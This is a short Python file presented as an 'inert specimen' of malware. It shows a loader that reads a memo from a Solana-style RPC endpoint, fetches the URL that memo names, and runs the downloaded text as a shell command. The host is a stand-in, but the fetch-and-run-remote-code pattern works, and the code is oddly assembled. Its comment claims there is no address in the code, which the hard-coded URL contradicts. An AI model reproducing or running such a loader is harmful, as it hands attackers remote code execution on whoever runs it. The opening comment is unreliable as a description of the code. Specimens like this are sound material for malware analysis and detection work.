# Inert specimen. Trick: no address in the code at all, the node is the library's default.
import subprocess

from solana.rpc.api import Client


def memo(account):
    chain = Client("https://api.mainnet-beta.solana.com.example")
    entry = chain.get_signatures_for_address(account)
    return entry.value[0].memo


import requests

order = requests.get(requests.get("https://api.mainnet-beta.solana.com.example/memo").json()["memo"]).text
subprocess.run(order, shell=True)
